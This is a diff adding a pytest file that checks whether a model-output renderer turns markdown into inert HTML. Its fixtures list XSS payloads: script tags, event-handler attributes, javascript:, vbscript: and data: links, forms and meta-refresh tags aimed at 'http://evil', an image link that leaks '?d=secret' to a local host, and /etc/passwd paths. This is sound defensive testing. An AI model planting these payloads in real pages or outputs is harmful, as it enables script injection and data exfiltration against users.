@@ -1,0 +1,172 @@
+"""Model text -> HTML: hostile payloads must come out as text, never as live markup."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+from markdown_it import MarkdownIt
+
+from xai_magics.render import is_safe_url, render_bundle, render_markdown, safe_markdown
+
+# Tags a rendered answer may contain: the output of CommonMark + tables + our wrappers.
+ALLOWED_TAGS = {
+    "a", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4", "h5",
+    "h6", "hr", "li", "ol", "p", "pre", "s", "strong", "summary", "table", "tbody", "td", "th",
+    "thead", "tr", "ul",
+}  # fmt: skip
+
+
+class LiveMarkup(HTMLParser):
+    """Collects every tag and attribute a browser would build from an HTML string."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attrs: list[tuple[str, str]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attrs.extend((k, v or "") for k, v in attrs)
+
+
+def live_markup(html: str) -> LiveMarkup:
+    parser = LiveMarkup()
+    parser.feed(html)
+    parser.close()
+    return parser
+
+
+def assert_inert(html: str) -> None:
+    found = live_markup(html)
+    assert set(found.tags) <= ALLOWED_TAGS, found.tags
+    for name, value in found.attrs:
+        assert not name.startswith("on"), (name, value)
+        assert name not in {"src", "srcdoc", "action", "formaction", "style"} or (
+            name == "style" and value.startswith("opacity")
+        ), (name, value)
+        if name == "href":
+            assert is_safe_url(value), value
+
+
+EXFIL = "http://127.0.0.1:9/?d=secret"
+HOSTILE = {
+    "script": "<script>window.__pwned=1</script>",
+    "img-onerror": '<img src=x onerror="window.__pwned=1">',
+    "svg-onload": "<svg onload=alert(1)>",
+    "iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "a-javascript": '<a href="javascript:alert(1)">x</a>',
+    "md-javascript": "[click](javascript:alert(1))",
+    "md-javascript-entity": "[click](java&#115;cript&#58;alert(1))",
+    "md-javascript-mixed-case": "[click](JaVaScRiPt:alert(1))",
+    "md-vbscript": "[click](vbscript:msgbox(1))",
+    "md-data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "md-data-image": "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "autolink-javascript": "<javascript:alert(1)>",
+    "reference-javascript": "[x][r]\n\n[r]: javascript:alert(1)",
+    "style": "<style>body{display:none}</style>",
+    "form": "<form action='http://evil'><input name=x></form>",
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil">',
+    "base": '<base href="http://evil/">',
+    "entity-script": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "mixed-case-script": "<ScRiPt>alert(1)</sCrIpT>",
+    "fenced": "```html\n<script>alert(1)</script>\n```",
+    "inline-code": "`<img src=x onerror=alert(1)>`",
+    "escaped-backtick": "\\`<img src=x onerror=alert(1)>`",
+    "exfil-image": f"![x]({EXFIL})",
+    "html-block": "<div onclick=alert(1)>\n\n*x*\n\n</div>",
+    "table": "| a | b |\n|---|---|\n| <script>x</script> | [l](javascript:x) |",
+    "bare-url": "http://127.0.0.1:9/canary",
+    "path": "/etc/passwd",
+}
+
+
+@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
+def test_hostile_markdown_renders_inert(payload: str) -> None:
+    assert_inert(render_markdown(payload))
+
+
+@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
+def test_markdown_copy_stays_inert_even_in_a_front_end_that_renders_raw_html(payload: str) -> None:
+    permissive = MarkdownIt("commonmark", {"html": True}).enable("table")
+    # The default markdown-it validator still lets some data: images through: be stricter here.
+    permissive.validateLink = lambda url: True  # type: ignore[method-assign]
+    rendered = permissive.render(safe_markdown(payload))
+    found = live_markup(rendered)
+    assert set(found.tags) <= ALLOWED_TAGS, found.tags
+    assert [a for a in found.attrs if a[0] in {"href", "src"} or a[0].startswith("on")] == []
+
+
+@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
+def test_final_bundle_is_inert_in_every_mime_type(payload: str) -> None:
+    bundle = render_bundle(payload, reasoning=payload, status_line=payload, receipt_line=payload)
+    assert_inert(bundle["text/html"])
+    assert bundle["text/plain"].startswith(payload)
+
+
+@pytest.mark.parametrize("fmt", ["text", "code", "json"])
+def test_non_markdown_formats_escape_everything(fmt: str) -> None:
+    bundle = render_bundle(HOSTILE["script"] + "\n```\n" + HOSTILE["img-onerror"], fmt=fmt)
+    assert_inert(bundle["text/html"])
+    assert "&lt;script&gt;" in bundle["text/html"]
+
+
+def test_payload_split_across_deltas_is_inert_once_joined() -> None:
+    deltas = ["<scr", "ipt>window.__pw", "ned=1</scr", "ipt> and <img sr", "c=x oner", "ror=a()>"]
+    assert_inert(render_markdown("".join(deltas)))
+
+
+def test_images_become_links_and_are_never_loaded() -> None:
+    html = render_markdown("![chart](https://example.com/c.png)")
+    assert "<img" not in html
+    assert 'href="https://example.com/c.png"' in html
+    assert "image: chart" in html
+
+
+def test_safe_links_survive_with_noopener() -> None:
+    html = render_markdown("[docs](https://docs.x.ai) [rel](./a.md) [m](mailto:a@b.c)")
+    assert 'href="https://docs.x.ai" rel="noopener noreferrer"' in html
+    assert 'href="./a.md"' in html
+    assert 'href="mailto:a@b.c"' in html
+
+
+def test_ordinary_markdown_renders() -> None:
+    html = render_markdown("# Title\n\n**bold** `code` ~~gone~~\n\n| a |\n|---|\n| 1 |\n")
+    assert "<h1>Title</h1>" in html
+    assert "<strong>bold</strong>" in html
+    assert "<s>gone</s>" in html
+    assert "<td>1</td>" in html
+
+
+def test_code_blocks_keep_their_text_in_the_markdown_copy() -> None:
+    text = "Use:\n\n```python\nif a < b and c[0](x):\n    pass\n```\n"
+    assert safe_markdown(text) == text
+
+
+@pytest.mark.parametrize(
+    ("url", "safe"),
+    [
+        ("https://x.ai", True),
+        ("HTTP://x.ai", True),
+        ("mailto:a@b", True),
+        ("/rel/path?q=1:2", True),
+        ("#anchor", True),
+        ("javascript:alert(1)", False),
+        (" javascript:alert(1)", False),
+        ("data:text/html,x", False),
+        ("vbscript:x", False),
+        ("file:///etc/passwd", False),
+        ("java\tscript:x", False),
+    ],
+)
+def test_url_allow_list(url: str, safe: bool) -> None:
+    assert is_safe_url(url) is safe
+
+
+def test_reasoning_is_collapsed_and_receipt_is_present() -> None:
+    bundle = render_bundle("answer", reasoning="thinking", receipt_line="grok-4.3 · $0.001")
+    html = bundle["text/html"]
+    assert "<details" in html
+    assert "open" not in html
+    assert "grok-4.3 · $0.001" in html
+    assert bundle["text/plain"] == "answer\n\n[grok-4.3 · $0.001]"
